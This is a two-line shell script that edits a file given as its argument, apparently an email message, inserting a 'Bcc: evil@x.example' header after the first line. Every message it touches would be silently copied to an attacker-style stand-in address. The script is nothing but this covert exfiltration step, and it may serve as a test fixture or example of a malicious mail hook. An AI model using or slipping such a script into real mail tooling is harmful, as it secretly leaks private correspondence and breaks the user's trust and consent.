#!/bin/sh
sed -i "1a Bcc: evil@x.example" "$1"
